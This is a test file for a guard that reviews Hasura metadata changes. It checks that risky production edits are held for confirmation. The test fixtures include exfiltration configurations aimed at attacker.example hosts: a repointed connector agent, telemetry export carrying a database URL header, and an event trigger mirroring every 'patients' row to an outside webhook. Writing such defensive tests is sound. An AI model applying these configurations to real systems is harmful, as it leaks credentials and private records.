// Changes that weaken production which a review of the metadata analysis found read as routine: an agent repointed,
// settings set where Hasura exports none, a source's customization, a remote schema every role may query, an event
// trigger sending a table's rows out, a native query open to roles. Each asserts the safe decision (a confirmation in
// production) and failed before its fix.
import { describe, expect, it } from 'vitest';
import { edited, inForce, judge, replace } from './meta-helpers.js';

describe('replace_metadata: what the diff does not see', () => {
  it('backend_configs: a data connector agent repointed to another server (it then receives every query and the source configuration) is held', async () => {
    // Hasura's Metadata parser reads `backend_configs` (Hasura/RQL/Types/Metadata.hs); a data connector source's
    // every request goes to the agent at this URI, its configuration (credentials) with it.
    const next = edited((m) => {
      m.backend_configs.dataconnector.sqlite.uri = 'https://agent.attacker.example';
    });
    const result = await judge(replace(next), inForce());
    expect(result.level).toBe('confirm');
  });

  it('backend_configs: every agent removed (the sqlite source in force loses its agent) is held', async () => {
    const next = edited((m) => {
      m.backend_configs = {};
    });
    // every agent removed: the sqlite source in force can no longer be reached
    const result = await judge(replace(next), inForce());
    expect(result.level).toBe('confirm');
  });
});

describe('replace_metadata: settings absent from the export (Hasura omits them at their default) set by a replacement', () => {
  // Serialization.hs omits api_limits, metrics_config, graphql_schema_introspection, network, opentelemetry and a
  // source's customization when they are at their default; set through their own call they are modify:* (critical).
  it('opentelemetry: traces, metrics and logs exported to a new endpoint with headers is held, as set_opentelemetry_config is', async () => {
    const next = edited((m) => {
      m.opentelemetry = {
        status: 'enabled',
        data_types: ['traces', 'metrics', 'logs'],
        exporter_otlp: { otlp_traces_endpoint: 'https://collector.attacker.example/v1/traces', otlp_logs_endpoint: 'https://collector.attacker.example/v1/logs', protocol: 'http/protobuf', headers: [{ name: 'x-token', value_from_env: 'PG_DATABASE_URL' }], resource_attributes: [] },
        batch_span_processor: { max_export_batch_size: 512 },
      };
    });
    const single = await judge({ type: 'set_opentelemetry_config', args: next.opentelemetry });
    expect(single.level).toBe('confirm');
    const result = await judge(replace(next), inForce());
    expect(result.level).toBe('confirm');
  });

  it('api_limits: a global rate limit of one request a minute (every client refused) is held, as set_api_limits is', async () => {
    const next = edited((m) => {
      m.api_limits = { disabled: false, rate_limit: { global: { unique_params: 'IP', max_reqs_per_min: 1 }, per_role: {} } };
    });
    const result = await judge(replace(next), inForce());
    expect(result.level).toBe('confirm');
  });

  it('graphql_schema_introspection: introspection disabled for the roles clients use is held, as set_graphql_schema_introspection_options is', async () => {
    const next = edited((m) => {
      m.graphql_schema_introspection = { disabled_for_roles: ['user', 'anonymous'] };
    });
    const result = await judge(replace(next), inForce());
    expect(result.level).toBe('confirm');
  });

  it('metrics_config: query variables and response bodies sent for analysis is held, as set_metrics_config is', async () => {
    const next = edited((m) => {
      m.metrics_config = { analyze_query_variables: true, analyze_response_body: true };
    });
    const result = await judge(replace(next), inForce());
    expect(result.level).toBe('confirm');
  });

  it("a source's customization (root fields namespaced, type names prefixed: every client's query breaks) is held, as update_source with it is", async () => {
    const customization = { root_fields: { namespace: 'db', prefix: 'x_' }, type_names: { prefix: 'X_' }, naming_convention: 'graphql-default' };
    const single = await judge({ type: 'pg_update_source', args: { name: 'default', customization } }, inForce());
    expect(single.level).toBe('confirm');
    const next = edited((m) => {
      m.sources[0].customization = customization;
    });
    const result = await judge(replace(next), inForce());
    expect(result.level).toBe('confirm');
  });
});

describe('additions that open something up', () => {
  // With remote schema permissions disabled (Hasura's default, HASURA_GRAPHQL_ENABLE_REMOTE_SCHEMA_PERMISSIONS=false)
  // every role, and even unauthenticated requests, get the whole remote schema (Hasura/GraphQL/Schema.hs,
  // unauthenticatedContext: "Permissions are disabled, unauthenticated users have access to remote schemas"), sent
  // with its configured headers (a service token).
  const internalAdmin = { name: 'internal-admin', definition: { url: 'https://admin.internal/graphql', headers: [{ name: 'Authorization', value_from_env: 'ADMIN_API_TOKEN' }], forward_client_headers: false, timeout_seconds: 60 } };

  it('add_remote_schema: a remote schema every role can query by default is held', async () => {
    const result = await judge({ type: 'add_remote_schema', args: internalAdmin });
    expect(result.level).toBe('confirm');
  });

  it('replace_metadata adding a remote schema is held', async () => {
    const next = edited((m) => {
      m.remote_schemas.push(internalAdmin);
    });
    const result = await judge(replace(next), inForce());
    expect(result.level).toBe('confirm');
  });

  // A new event trigger on a table in force sends every inserted/updated/deleted row, whole (old and new), to its
  // webhook from then on: the table's data leaves the database for any URL.
  const exfiltrate = { name: 'mirror', definition: { enable_manual: true, insert: { columns: '*' }, update: { columns: '*' }, delete: { columns: '*' } }, retry_conf: { num_retries: 10, interval_sec: 1, timeout_sec: 60 }, webhook: 'https://collector.attacker.example/rows' };

  it('pg_create_event_trigger on a table in force, to an outside webhook, is held', async () => {
    const result = await judge({ type: 'pg_create_event_trigger', args: { ...exfiltrate, table: { schema: 'public', name: 'patients' }, source: 'default' } });
    expect(result.level).toBe('confirm');
  });

  it('replace_metadata adding an event trigger on a table in force is held', async () => {
    const next = edited((m) => {
      m.sources[0].tables[0].event_triggers.push(exfiltrate);
    });
    const result = await judge(replace(next), inForce());
    expect(result.level).toBe('confirm');
  });
});

describe('a native query returning a logical model that already carries a select permission', () => {
  // Hasura exposes a native query as a root field to every role with a select permission on its logical model
  // (buildNativeQueryFields); its SQL is the caller's, so the role now reads whatever that SQL returns (here every
  // patient, past the table's row filter), or runs what it does (a data-modifying CTE).
  const current = () => {
    const m = inForce();
    m.sources[0].logical_models = [{ name: 'PatientRow', fields: [{ name: 'id', type: { scalar: 'int' } }, { name: 'name', type: { scalar: 'text' } }], select_permissions: [{ role: 'user', permission: { columns: ['id', 'name'], filter: {} } }] }];
    return m;
  };
  const nativeQuery = { root_field_name: 'all_patients', code: 'SELECT id, name FROM patients', arguments: {}, returns: 'PatientRow' };

  it('pg_track_native_query opening a new root field to the role is held', async () => {
    const result = await judge({ type: 'pg_track_native_query', args: { source: 'default', ...nativeQuery } }, current());
    expect(result.level).toBe('confirm');
  });

  it('replace_metadata adding it is held', async () => {
    const next = current();
    next.sources[0].native_queries = [nativeQuery];
    const result = await judge(replace(next), current());
    expect(result.level).toBe('confirm');
  });
});
